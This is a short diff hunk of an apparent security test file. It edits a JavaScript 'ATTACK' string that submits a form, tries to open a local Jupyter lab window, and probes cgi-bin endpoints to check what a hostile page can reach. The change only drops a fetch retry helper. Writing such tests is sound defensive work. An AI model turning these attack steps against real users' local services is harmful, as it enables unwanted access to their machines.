@@ -172,10 +172,8 @@ ATTACK = """async ({name, own}) => {
     document.body.append(form); form.submit(); setTimeout(done, 2000, 'sent') }));
   const opened = window.open(`${jupyter}lab`);
   told.opened = opened ? 'opened' : 'refused';
-  const fetched = async (...what) => {  // Chromium cuts requests while this machine's network changes: a lab beside us starts
-    for (let tries = 5; ; tries--) try { return await fetch(...what) } catch (error) { if (!tries) throw error } };
-  const left = await fetched(`${own}cgi-bin/leave`);
-  return [told, left.url, (await fetched(`${own}cgi-bin/env`, {method: 'POST', headers: {'Content-Type': 'application/json'}, body: '{}'})).status, window.ran, getComputedStyle(document.querySelector('h1')).color];
+  const left = await fetch(`${own}cgi-bin/leave`);
+  return [told, left.url, (await fetch(`${own}cgi-bin/env`, {method: 'POST', headers: {'Content-Type': 'application/json'}, body: '{}'})).status, window.ran, getComputedStyle(document.querySelector('h1')).color];
 }""".replace("ATTEMPT", ATTEMPT)
 
 
